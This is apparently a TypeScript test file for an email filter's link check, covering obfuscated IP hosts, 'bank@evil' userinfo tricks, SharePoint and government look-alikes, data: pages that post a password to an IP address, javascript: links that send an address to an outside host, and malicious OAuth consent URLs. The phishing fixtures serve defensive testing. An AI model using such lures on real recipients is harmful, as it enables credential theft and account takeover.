// The links check: each shape on its own (linkKinds), then the check on parsed messages: links in
// the HTML, the text, an attached PDF and behind a redirector, with details that name them.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_BLOCK_EXTENSIONS } from '../../../src/content/attachments.ts';
import { isFreePage, isObfuscatedIp, linkKinds, linksCheck, linksOptionsSchema } from '../../../src/pipeline/checks/links.ts';
import { pdfDocument } from '../../helpers/pdf.ts';
import { fakeStore } from './fake-store.ts';
import { dataContext, quietLog, testConfig } from './util.ts';

const options = linksOptionsSchema.parse({});
const blocked = new Set(DEFAULT_BLOCK_EXTENSIONS);
/** the first thing wrong with a link (most links have one at most) */
const kind = (url: string) => linkKinds(url, options, blocked)[0] ?? null;

describe('the shape of a link', () => {
  it('a bare IP address, v4 or v6, and one written to hide it', () => {
    assert.equal(kind('http://203.0.113.5/login.php'), 'ip');
    assert.equal(kind('https://[2001:db8::5]/x'), 'ip');
    assert.equal(kind('http://203.0.113.5:8080'), 'ip');
    // the company's own servers, as a monitoring alert links to them: no outside reader reaches them
    for (const url of ['http://192.168.50.10/zabbix/tr_events.php', 'https://10.0.0.5/owa', 'http://172.20.1.1/', 'http://127.0.0.1:8080/', 'http://[fd00::5]/x']) assert.equal(kind(url), null, url);
    assert.equal(kind('http://172.32.1.1/'), 'ip');
    for (const host of ['3405803889', '0xcb007171', '0xCB.0x00.0x71.0x71', '0313.0.0161.0161', '203.29553']) {
      assert.ok(isObfuscatedIp(host), host);
      assert.equal(kind(`http://${host}/secure`), 'ip-obfuscated', host);
    }
    for (const host of ['203.0.113.5', 'example.com', '123.example.com', '1password.com', 'x0x.example']) assert.ok(!isObfuscatedIp(host), host);
  });

  it('a user part before the host', () => {
    assert.equal(kind('https://www.bank.example@evil.example/login'), 'userinfo');
    for (const url of ['ftp://anonymous@ftp.example.org/pub', 'https://peter.green@files.example/', 'https://user:secret@files.example/']) assert.equal(kind(url), 'userinfo', url);
  });

  it('a user part that names a web site: another site\'s name in front of the real host', () => {
    for (const url of ['https://login.microsoftonline.com@evil.example/common/oauth2', 'https://www.paypal.de@203.0.113.9.example/', 'http://sparkasse.de:443@evil.example/',
      'https://accounts.google.com%2Fsignin@evil.example/', 'https://www.poste.it@evil.example/']) assert.equal(kind(url), 'userinfo-host', url);
    assert.equal(kind('https://evil.example/@bank'), null, 'an @ in the path is not one');
    // before a bare IP address: both tricks
    assert.deepEqual(linkKinds('https://inpost.pl@198.51.100.210/sledzenie?n=1', options, new Set()), ['userinfo-host', 'ip']);
  });

  it('program downloads by name, not web applications or site names', () => {
    assert.equal(kind('https://files.example/Rechnung_2026.exe'), 'program');
    assert.equal(kind('https://files.example/dl/Faktura%2Ejs?x=1'), 'program', 'an escaped dot');
    assert.equal(kind('https://files.example/a/b/invoice.pdf.lnk#x'), 'program');
    assert.equal(kind('http://cgi.ebay.com/ws/eBayISAPI.dll?ViewItem&item=1'), null);
    assert.equal(kind('https://go.example/to/example.com'), null);
    assert.equal(kind('https://files.example/setup.exe.html'), null);
    assert.equal(kind('https://files.example/download?file=setup.exe'), null);
  });

  it('IPFS on any gateway, and the risky hosts with their subdomains', () => {
    assert.equal(kind('https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/login.html'), 'ipfs');
    assert.equal(kind('https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/'), 'ipfs');
    assert.equal(kind('https://gateway.example/ipfs/notacid'), null);
    assert.equal(kind('https://tender-rain-42.trycloudflare.com/o365'), 'risky-host');
    assert.equal(kind('https://pub-1234.r2.dev/doc.html'), 'risky-host');
    for (const url of ['https://sharepoint-docs.pages.dev/', 'https://login-m365.web.app/', 'https://telegra.ph/Kompensaciya-12-01']) assert.equal(kind(url), 'risky-host', url);
    assert.equal(kind('https://nottrycloudflare.com/'), null);
    assert.deepEqual(linkKinds('https://a.b.partner-tunnel.test/', linksOptionsSchema.parse({ riskyHosts: ['Partner-Tunnel.test'] }), blocked), ['risky-host']);
    // a program downloaded from a risky host is both
    assert.deepEqual(linkKinds('https://taskflow-app.pages.dev/download/TaskFlow_Setup.exe', options, blocked), ['risky-host', 'program']);
    assert.deepEqual(linkKinds('http://203.0.113.5/Rechnung.js', options, blocked), ['ip', 'program']);
  });

  it('a host whose registered name wears a government\'s word, not a government\'s own suffix', () => {
    for (const url of ['https://ksef-uprawnienia.podatki-gov.com/login', 'https://myaade-gov.com/refund', 'https://dgt-gob-multas.com/pago', 'https://impots-gouv.info/']) assert.equal(kind(url), 'government-lookalike', url);
    for (const url of ['https://www.podatki.gov.pl/ksef/', 'https://www1.aade.gov.gr/', 'https://sede.agenciatributaria.gob.es/', 'https://www.govdelivery.com/', 'https://www.gov.uk/']) assert.equal(kind(url), null, url);
  });

  it('SharePoint\'s sharing path on a host dressed as SharePoint outside sharepoint.com (the forty-third pair\'s hijacked thread)', () => {
    for (const url of ['https://lieferantgmbh-my.sharepoint-docs.de/:b:/g/personal/s_maier_lieferant-gmbh_de/EKi6amjS5?e=3QeEgd',
      'https://ferrettitrasporti-my.sharepoint.com.cmr-docs.info/:b:/g/personal/c_colombo/EbK4f7Qz', 'https://harrowfinch-my.docs-view.example/:f:/p/r_shaw/RFP-2027']) {
      assert.equal(kind(url), 'sharepoint-imitation', url);
    }
    // SharePoint itself; a partner's own server named as its own; the path alone or the name alone
    for (const url of ['https://lieferantgmbh-my.sharepoint.com/:b:/g/personal/s_maier/EKi6', 'https://contoso.sharepoint.com/:x:/r/sites/Finance/Doc.aspx',
      'https://share.lieferant-gmbh.example/:w:/r/sites/vertrieb/AB.docx', 'https://sharepoint-docs.example/help/getting-started']) {
      assert.equal(kind(url), null, url);
    }
  });

  it('a link that runs a script, however it is written', () => {
    for (const url of ["javascript:location='https://ms-secure.example/'+btoa('u@example.com')", ' JavaScript:void(0)', 'java\tscript:alert(1)', 'vbscript:msgbox(1)']) assert.equal(kind(url), 'script', url);
    assert.equal(kind('https://example.com/javascript:x'), null);
  });

  it('a link that carries a page or a file, not one that carries a picture', () => {
    for (const url of ['data:text/html;base64,PGZvcm0+', 'data:text/html,%3Cform%3E', 'DATA:application/octet-stream;base64,TVqQ', 'data:application/xhtml+xml;charset=utf-8,<html/>']) assert.equal(kind(url), 'data-page', url);
    for (const url of ['data:image/png;base64,iVBORw0KGgo=', 'data:image/svg+xml;utf8,<svg/>', 'data:,Hello', 'data:text/plain;base64,SGVsbG8=']) assert.equal(kind(url), null, url);
  });

  it('honest links are nothing', () => {
    for (const url of ['https://www.example.com/news?id=5', 'www.example.de/angebot', 'https://docs.example/guide.pdf', 'ftp://ftp.example.org/pub/file.tar.gz']) assert.equal(kind(url), null, url);
  });

  it('riskyHosts must be host names', () => {
    assert.equal(linksOptionsSchema.safeParse({ riskyHosts: ['https://x.example/'] }).success, false);
  });
});

describe('the links check', () => {
  const run = async (raw: string) => (await linksCheck.run(await dataContext(Buffer.from(raw)), {
    options, config: testConfig(), store: fakeStore(), log: quietLog, signal: new AbortController().signal,
  })).map((h) => `${h.symbol}: ${h.detail}`);

  it('finds each kind once, in the HTML, in the text and behind a redirector, and names the link', async () => {
    const html = '<p><a href="http://3405803889/secure">Sign in</a> <a href="http://3405803889/again">again</a></p>'
      + '<p><a href="https://www.google.com/url?q=https%3A%2F%2Ffiles.example%2FRechnung.exe">Rechnung</a></p>';
    const raw = `From: a@sender.test\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/login.html\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`;
    assert.deepEqual(await run(raw), [
      'LINK_IP_OBFUSCATED: http://3405803889/secure',
      'LINK_PROGRAM: https://files.example/Rechnung.exe',
      'LINK_IPFS: https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/login.html',
      'LINK_OPEN_REDIRECT: https://www.google.com/url?q=https%3A%2F%2Ffiles.example%2FRechnung.exe leads to files.example',
    ]);
    assert.deepEqual(await run('From: a@sender.test\r\nSubject: x\r\n\r\nLog in at https://www.bank.example@evil.example/login\r\n'), [
      'LINK_USERINFO: https://www.bank.example@evil.example/login',
    ]);
  });

  it('a link in an attached PDF, said where it was', async () => {
    const pdf = pdfDocument({ links: ['http://198.51.100.7/portal/'] });
    const raw = `From: a@sender.test\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease see the document.\r\n--b\r\nContent-Type: application/pdf; name="doc.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${pdf.toString('base64')}\r\n--b--\r\n`;
    assert.deepEqual(await run(raw), ['LINK_IP_ADDRESS: http://198.51.100.7/portal/ (link in a PDF)']);
  });

  it('a page inside a link: what it is, and where its form posts judged as a link of the mail', async () => {
    const page = Buffer.from('<html><form action="http://203.0.113.9/p.php"><input type="password" name="pw"></form></html>').toString('base64');
    const html = `<p>Sign-in from Lagos. <a href="data:text/html;base64,${page}">Secure your account</a> or <a href="javascript:location='https://x.example/'">review</a>.</p><img src="data:image/png;base64,iVBORw0KGgo=">`;
    const raw = `From: a@sender.test\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}\r\n`;
    assert.deepEqual(await run(raw), [
      'LINK_IP_ADDRESS: http://203.0.113.9/p.php (link in a page inside a link)',
      `LINK_SCRIPT: javascript:location='https://x.example/'`,
      `LINK_DATA_PAGE: a text/html page inside the link: a web page that asks for a password (data:text/html;base64,${page.slice(0, 77 - 22)}...)`,
    ]);
  });

  it('a link to a free host or an IP address that carries the recipient\'s address', async () => {
    const mail = (href: string) => `From: a@sender.test\r\nTo: carol@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<a href="${href}">Open</a>\r\n`;
    assert.deepEqual((await run(mail('https://www.google.com/url?q=https%3A%2F%2Fq4-budget.netlify.app%2Fxlsx%3Fu%3Dcarol%40example.com'))).filter((h) => !h.startsWith('LINK_OPEN_REDIRECT')), [
      'LINK_PERSONAL_PAGE: https://q4-budget.netlify.app/xlsx?u=carol@example.com',
    ], 'behind a redirector too');
    assert.deepEqual(await run(mail(`https://nominas.azurewebsites.net/login#${Buffer.from('carol@example.com').toString('base64')}`)), [
      `LINK_PERSONAL_PAGE: https://nominas.azurewebsites.net/login#${Buffer.from('carol@example.com').toString('base64')}`,
    ]);
    assert.deepEqual(await run(mail('http://185.234.72.19/owa/auth/logon.aspx?e=carol%40example.com')), [
      'LINK_IP_ADDRESS: http://185.234.72.19/owa/auth/logon.aspx?e=carol%40example.com',
      'LINK_PERSONAL_PAGE: http://185.234.72.19/owa/auth/logon.aspx?e=carol%40example.com',
    ]);
    // a newsletter's own unsubscribe link, someone else's address, a free host without the address
    for (const href of ['https://news.sender.test/unsubscribe?e=carol@example.com', 'https://x.netlify.app/?u=dave@example.com', 'https://docs.github.io/guide']) assert.deepEqual(await run(mail(href)), [], href);
    // the address in the fragment, which only the page's script reads, weighs whole; in the query three fifths
    const weightOf = async (href: string) => (await linksCheck.run(await dataContext(Buffer.from(mail(href))), {
      options, config: testConfig(), store: fakeStore(), log: quietLog, signal: new AbortController().signal,
    })).find((h) => h.symbol === 'LINK_PERSONAL_PAGE')?.weight ?? 1;
    assert.equal(await weightOf('https://q4-budget.netlify.app/xlsx?u=carol@example.com'), 0.6);
    assert.equal(await weightOf(`https://docs7.z6.web.core.windows.net/index.html#${Buffer.from('carol@example.com').toString('base64')}`), 1);
    assert.equal(await weightOf('https://docs7.z6.web.core.windows.net/index.html#carol@example.com'), 1);
    assert.equal(await weightOf('https://docs7.pages.dev/?u=carol@example.com#top'), 0.6, 'a fragment without the address');
    assert.deepEqual(await linksCheck.run(await dataContext(Buffer.from(mail('https://x.example-tools.test/?u=carol@example.com'))), {
      options: linksOptionsSchema.parse({ freeHosts: ['example-tools.test'] }), config: testConfig(), store: fakeStore(), log: quietLog, signal: new AbortController().signal,
    }).then((h) => h.map((x) => x.symbol)), ['LINK_PERSONAL_PAGE']);
  });

  it('a free host is a host and what is below it, or a host\'s path and what is below that', () => {
    for (const url of ['https://docs.google.com/forms/d/e/1FAIp/viewform', 'https://forms.gle/x7', 'https://www.canva.com/design/DAG/view', 'https://www.dropbox.com/scl/fi/k3/x.pdf', 'https://x.webflow.io/', 'https://a.b.netlify.app/x'])
      assert.ok(isFreePage(url, options.freeHosts), url);
    for (const url of ['https://www.canva.com/pricing/', 'https://www.dropbox.com/business', 'https://www.dropbox.com/settings', 'https://google.com/forms', 'https://notnetlify.app/'])
      assert.ok(!isFreePage(url, options.freeHosts), url);
    assert.ok(isFreePage('https://tools.example.com/forms/7', ['example.com/forms']));
    assert.equal(linksOptionsSchema.safeParse({ freeHosts: ['https://x.example/'] }).success, false);
  });

  it('a page inside WordPress\'s folders for uploads, themes and its own code', async () => {
    for (const url of ['https://avtoservis.example/wp-content/uploads/2026/11/lk-mes/index.php?ls=9', 'https://www.pensjonat.example/wp-content/themes/twentytwentyone/assets/etoll/?id=ET2',
      'https://shop.example/wp-includes/js/crop/login.html', 'https://site.example/wp-admin/css/colors/x/', 'https://site.example/WP-CONTENT/uploads/2025/secure'])
      assert.equal(kind(url), 'wp-files-page', url);
    // the files a site keeps there, its plugins' handlers, and pages elsewhere
    for (const url of ['https://site.example/wp-content/uploads/2025/03/Katalog.pdf', 'https://site.example/wp-content/uploads/2025/03/banner.jpg?ver=2', 'https://site.example/wp-content/plugins/newsletter/do/unsubscription.php?nk=1',
      'https://site.example/wp-admin/admin-ajax.php?action=unsubscribe', 'https://site.example/2025/03/news/', 'https://site.example/wp-login.php'])
      assert.equal(kind(url), null, url);
    const mail = 'From: "e-TOLL" <wordpress@pensjonat.example>\r\nTo: carol@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<a href="https://www.pensjonat.example/wp-content/themes/tt1/assets/etoll/?id=ET2">Zapłać</a>\r\n';
    assert.deepEqual(await run(mail), ['LINK_WP_FILES_PAGE: https://www.pensjonat.example/wp-content/themes/tt1/assets/etoll/?id=ET2']);
    // with the reader's address in base64, the kit's page made for its victim (the seventy-eighth pair's hijacked partner)
    const b64 = Buffer.from('carol@example.com').toString('base64');
    const kit = `From: Tadeusz <t.zielinski@partner.example>\r\nTo: carol@example.com\r\nSubject: x\r\n\r\nDokumenty: https://www.przedszkole.example/wp-content/uploads/2026/11/onedrive/index.php?e=${b64}\r\n`;
    assert.deepEqual((await run(kit)).map((h) => h.split(':')[0]), ['LINK_PERSONAL_PAGE', 'LINK_WP_FILES_PAGE']);
  });

  it('an archive or disk image inside those folders, not one elsewhere or a picture there', async () => {
    for (const url of ['https://antoniadis-law.example/wp-content/uploads/2026/12/Exodiko_2026-4471_fakelos.zip', 'https://site.example/wp-content/uploads/2026/11/Rechnung%20Nr.%2041.rar',
      'https://site.example/wp-includes/images/x/Akte.7z?dl=1', 'https://site.example/wp-content/themes/x/Faktura.IMG'])
      assert.equal(kind(url), 'wp-archive', url);
    for (const url of ['https://site.example/downloads/Katalog-2026.zip', 'https://site.example/wp-content/uploads/2026/11/Katalog.pdf', 'https://site.example/wp-content/plugins/x/pack.zip'])
      assert.equal(kind(url), null, url);
    const mail = 'From: "Kanzlei" <info@kanzlei.example>\r\nTo: carol@example.com\r\nSubject: Akte\r\n\r\nDie Unterlagen: https://kanzlei.example/wp-content/uploads/2026/12/Akte_4471.zip\r\n';
    assert.deepEqual(await run(mail), ['LINK_WP_ARCHIVE: https://kanzlei.example/wp-content/uploads/2026/12/Akte_4471.zip']);
  });

  it('a link to an archive or a free file host\'s share with its password in the text, in the offices\' languages', async () => {
    const mail = (body: string) => `From: "Белова Ирина" <belova.legal@mail.ru>\r\nTo: d.sokolov@example.com\r\nSubject: Claim\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}\r\n`;
    assert.deepEqual(await run(mail('Претензия размещена в облаке: https://disk.yandex.ru/d/7C8A_tIVG5bT8p\nПароль к архиву: 7411')),
      ['LINK_ARCHIVE_PASSWORD: https://disk.yandex.ru/d/7C8A_tIVG5bT8p, the text gives its password "7411"']);
    for (const body of [
      'Το πλήρες κείμενο: https://www.dropbox.com/scl/fi/7k2xq/Exodiko.zip?rlkey=q8w2 Κωδικός: Velo2026',
      'Die Klageschrift: https://kanzlei-akten.example/download/Klage_4471.rar — Passwort: KL4471',
      'Fascicolo: https://mega.nz/file/AbCdEf#xyz La password è FX2026',
      'Akta sprawy: https://files.example/akta/pozew.7z Hasło: pozew2026',
    ]) assert.deepEqual((await run(mail(body))).map((h) => h.split(':')[0]), ['LINK_ARCHIVE_PASSWORD'], body);
    // the password of a meeting, an archive without one, a page with a password word that gives none
    assert.deepEqual(await run(mail('Join: https://zoom.us/j/8812345678 Passcode: 551203')), []);
    assert.deepEqual(await run(mail('Katalog: https://site.example/downloads/Katalog-2026.zip')), []);
    // a form or a free page is no download: the event's registration form beside the Wi-Fi password
    assert.deepEqual(await run(mail('Anmeldung: https://docs.google.com/forms/d/e/1FAIpQL/viewform WLAN-Passwort: Messe2026')), []);
    assert.deepEqual(await run(mail('Files: https://www.dropbox.com/scl/fi/abc/Fotos.zip — the password is the usual one')), []);
    // a link shown as an archive's file name, wherever it leads (the hundred-and-third pair's hijacked carrier, to a hacked WordPress site)
    const html = (text: string) => `From: Chiara Colombo <c.colombo@carrier.example>\r\nTo: d.sokolov@example.com\r\nSubject: DDT\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>I documenti: <a href="https://agriturismo.example/doc/?id=DDT_2811">${text}</a></p><p>Password: 2811</p>\r\n`;
    assert.deepEqual((await run(html('Documenti_consegna_28-11.zip'))).map((h) => h.split(':')[0]), ['LINK_ARCHIVE_PASSWORD']);
    assert.deepEqual(await run(html('I documenti della consegna')), []);
  });

  it('a link through a search engine\'s or social network\'s public redirector to another site, unless the mail is its owner\'s', async () => {
    const toll = (body: string) => `From: Toll Collect GmbH <forderungsmanagement@tc-mautservice.test>\r\nTo: b@example.com\r\nSubject: Nacherhebung\r\n\r\n${body}\r\n`;
    assert.deepEqual(await run(toll('Jetzt bezahlen: https://www.google.com/url?q=https%3A%2F%2Fmautservice-nacherhebung.test%2Ftc%2Fzahlung&sa=D&sntz=1')),
      ['LINK_OPEN_REDIRECT: https://www.google.com/url?q=https%3A%2F%2Fmautservice-nacherhebung.test%2Ftc... leads to mautservice-nacherhebung.test']);
    for (const url of ['https://www.google.de/url?sa=t&url=https://evil.test/x', 'https://www.bing.com/ck/a?!&&p=1&u=a1aHR0cHM6Ly9ldmlsLnRlc3QveA', 'https://l.facebook.com/l.php?u=https%3A%2F%2Fevil.test%2F', 'https://www.youtube.com/redirect?q=https://evil.test/'])
      assert.deepEqual((await run(toll(url))).map((h) => h.split(':')[0]), ['LINK_OPEN_REDIRECT'], url);
    // Google's own mail (a Calendar invitation's links), a redirector to its own site, Google's search page, a newsletter's own click tracker
    const invite = 'From: Google Calendar <calendar-notification@google.com>\r\nTo: b@example.com\r\nSubject: Invitation\r\n\r\nJoin: https://www.google.com/url?q=https://meet.example.org/abc&sa=D\r\n';
    assert.deepEqual(await linksCheck.run(await dataContext(Buffer.from(invite), { auth: { dkim: 'pass', dkimPass: ['google.com'] } }),
      { options, config: testConfig(), store: fakeStore(), log: quietLog, signal: new AbortController().signal }), []);
    for (const url of ['https://www.google.com/url?q=https://www.google.com/maps/place/x', 'https://www.google.com/search?q=https://evil.test', 'https://click.news.shop.test/?u=https%3A%2F%2Fshop.test%2Fsale'])
      assert.deepEqual(await run(toll(url)), [], url);
  });

  it('a link to a provider\'s consent page for an application that wants mail, files or code, or an admin\'s consent', async () => {
    const consent = [
      'https://github.com/login/oauth/authorize?client_id=Ov23liQ7qortuHfcrck3&redirect_uri=https%3A%2F%2Fgh-account-review.app%2Fcallback&scope=repo%2Cworkflow%2Cadmin%3Aorg%2Cdelete_repo%2Cuser%3Aemail&state=f6af9da7',
      'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&response_type=code&scope=offline_access%20Mail.ReadWrite%20Files.Read.All%20openid&redirect_uri=https://docs-viewer.example/auth',
      'https://login.microsoftonline.com/organizations/v2.0/adminconsent?client_id=0b1c2d3e-aaaa-bbbb-cccc-1234567890ab&scope=https://graph.microsoft.com/.default',
      'https://login.microsoftonline.com/common/oauth2/authorize?client_id=0b1c2d3e&response_type=code&resource=https%3A%2F%2Fgraph.microsoft.com&prompt=consent',
      'https://accounts.google.com/o/oauth2/v2/auth?client_id=1234-abc.apps.googleusercontent.com&scope=https://mail.google.com/%20https://www.googleapis.com/auth/drive&response_type=code&redirect_uri=https://sheets-sync.example/cb',
      'https://slack.com/oauth/v2/authorize?client_id=123.456&scope=channels:history,files:read&user_scope=',
    ];
    for (const url of consent) assert.equal(kind(url), 'oauth-consent', url);
    // signing in with the provider (who the reader is, nothing more), the provider's other pages, a look-alike host, no application named
    for (const url of [
      'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b&scope=openid%20profile%20email%20offline_access%20User.Read',
      'https://accounts.google.com/o/oauth2/v2/auth?client_id=1.apps.googleusercontent.com&scope=openid%20https://www.googleapis.com/auth/userinfo.email',
      'https://github.com/login/oauth/authorize?client_id=Iv1.abc&scope=read:user,user:email', 'https://github.com/login/oauth/authorize?client_id=Iv1.abc',
      'https://github.com/settings/applications', 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?scope=Mail.Read',
      'https://github.com.evil.example/login/oauth/authorize?client_id=x&scope=repo',
    ]) assert.equal(kind(url), null, url);
    const notification = `From: Eirik Sandvold <notifications@github.com>\r\nTo: b@example.com\r\nSubject: [sandvold-dev/ci-toolkit] Security Alert (Issue #214)\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>Review the authorised sessions: <a href="${consent[0]!.replace(/&/g, '&amp;')}">Review sessions</a></p>\r\n`;
    assert.deepEqual(await run(notification), [
      'LINK_OAUTH_CONSENT: GitHub application Ov23liQ7qortuHfcrck3 asks for repo, workflow, admin:org, delete_repo, the token going to gh-account-review.app: https://github.com/login/oauth/authorize?client_id=Ov23liQ7qortuHfcrck3&redir...',
    ]);
    // Slack's consent page is also the "Add to Slack" button of vendors' newsletters: three fifths
    const slack = await linksCheck.run(await dataContext(Buffer.from(`From: a@sender.test\r\nSubject: x\r\n\r\nInstall: ${consent[5]}\r\n`)), { options, config: testConfig(), store: fakeStore(), log: quietLog, signal: new AbortController().signal });
    assert.deepEqual(slack.map((h) => [h.symbol, h.weight]), [['LINK_OAUTH_CONSENT', 0.6]]);
    const admin = `From: a@sender.test\r\nTo: b@example.com\r\nSubject: x\r\n\r\nPlease approve our app for your tenant: ${consent[2]}\r\n`;
    assert.deepEqual(await run(admin), [
      'LINK_OAUTH_CONSENT: Microsoft application 0b1c2d3e-aaaa-bbbb-cccc-1234567890ab asks for an admin\'s consent for the whole organisation (https://graph.microsoft.com/.default): https://login.microsoftonline.com/organizations/v2.0/adminconsent?client_id=0...',
    ]);
  });

  it('a link already wrapped by Safe Links for one of our addresses: wrapped by the sender; a partner\'s quoted wrap names the partner', async () => {
    const wrap = (target: string, address: string) => `https://eur02.safelinks.protection.outlook.com/?url=${encodeURIComponent(target)}&data=05%7C02%7C${encodeURIComponent(address)}%7C88236513bfd4%7C5f2c8e41%7C0%7C0%7C639010422162002818%7CUnknown&sdata=abc%3D&reserved=0`;
    const mail = (url: string) => `From: Mail Protection <quarantine-noreply@examplegroup-mailsecurity.test>\r\nTo: claudia.wendt@example.com\r\nSubject: Quarantine summary\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p><a href="${url.replace(/&/g, '&amp;')}">Release</a></p>\r\n`;
    const config = testConfig({ 'smtp.localDomains': ['example.com'] });
    const check = async (raw: string) => (await linksCheck.run(await dataContext(Buffer.from(raw)), { options, config, store: fakeStore(), log: quietLog, signal: new AbortController().signal })).map((h) => `${h.symbol}: ${h.detail}`);
    assert.deepEqual(await check(mail(wrap('https://portal.mailsecurity-review.test/q/release?id=1', 'claudia.wendt@example.com'))), [
      'LINK_SAFELINKS_FORGED: https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fportal.mail... wrapped for claudia.wendt@example.com, leads to portal.mailsecurity-review.test',
    ]);
    assert.deepEqual(await check(mail(wrap('https://www.lieferant.test/agb', 'einkauf@lieferant.test'))), [], 'a supplier\'s reply quoting a link its own tenant wrapped');
    assert.deepEqual(await check(mail('https://eur02.safelinks.protection.outlook.com.evil.test/?data=claudia.wendt%40example.com')), []);
  });

  it('a letter with honest links says nothing', async () => {
    assert.deepEqual(await run('From: a@sender.test\r\nSubject: x\r\n\r\nThe agenda is at https://intranet.example.com/agenda.pdf and www.example.de/termine\r\n'), []);
  });
});
